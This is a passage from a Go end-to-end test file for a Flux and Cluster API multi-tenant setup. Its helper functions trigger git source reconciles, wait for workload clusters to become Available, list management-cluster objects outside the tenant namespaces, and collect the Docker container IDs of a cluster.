	t.Helper()
	repo.write(t, filepath.Join(dir, name, "cluster.yaml"), workloadCluster(name, "", ""))
	pushed := repo.commit(t, tenant+": "+name)
	fetchTenantSources(t, kc)
	waitFor(t, 20*time.Minute, tenant+"'s cluster "+name+" Available", func() bool {
		return kubectlQuiet(kc, "-n", tenant, "get", "cluster", name, "-o", `jsonpath={.status.conditions[?(@.type=="Available")].status}`) == "True"
	})
	return time.Since(pushed).Round(time.Second)
}

// fetchTenantSources asks source-controller to fetch the tenants' sources now, as a git server's
// push hook would (the poll is the fallback).
func fetchTenantSources(t *testing.T, kc string) {
	t.Helper()
	now := time.Now().Format(time.RFC3339Nano)
	for _, ns := range tenantNamespaces {
		kubectlQuiet(kc, "-n", "cluster-init", "annotate", "--overwrite", "gitrepository", "tenant-"+ns, "reconcile.fluxcd.io/requestedAt="+now)
	}
}

// objectsOutsideTenants lists kind/namespace/name of every object of the management cluster
// outside the tenants' namespaces, but what controllers churn (events, leases, endpoints).
func objectsOutsideTenants(t *testing.T, kc string) []string {
	t.Helper()
	var out []string
	resources := strings.Fields(kubectl(t, kc, "api-resources", "--verbs=list", "-o", "name"))
	skip := []string{"events", "events.events.k8s.io", "leases.coordination.k8s.io", "endpoints", "endpointslices.discovery.k8s.io",
		"pods", "replicasets.apps", "controllerrevisions.apps", "jobs.batch", "componentstatuses", "pods.metrics.k8s.io", "nodes.metrics.k8s.io",
		"certificatesigningrequests.certificates.k8s.io"}
	for _, res := range resources {
		if slices.Contains(skip, res) {
			continue
		}
		lines := kubectlQuiet(kc, "get", res, "-A", "--ignore-not-found", "-o", `jsonpath={range .items[*]}{.metadata.namespace}/{.metadata.name}{"\n"}{end}`)
		for _, l := range strings.Split(lines, "\n") {
			// Helm's release records come and go with each upgrade of the platform's releases
			// (every commit is a new chart revision).
			if l == "" || strings.HasPrefix(l, "workload-clusters/") || strings.HasPrefix(l, "team-b/") || strings.HasPrefix(l, "team-c/") ||
				res == "secrets" && strings.Contains(l, "/sh.helm.release.v1.") {
				continue
			}
			out = append(out, res+" "+l)
		}
	}
	slices.Sort(out)
	return out
}

// containerIDs are the IDs of a CAPD cluster's containers (machines and load balancer).
func containerIDs(t *testing.T, cluster string) []string {
	t.Helper()
	ids := strings.Fields(docker(t, "ps", "-aq", "--no-trunc", "--filter", "label=io.x-k8s.kind.cluster="+cluster))
	slices.Sort(ids)
	return ids
}
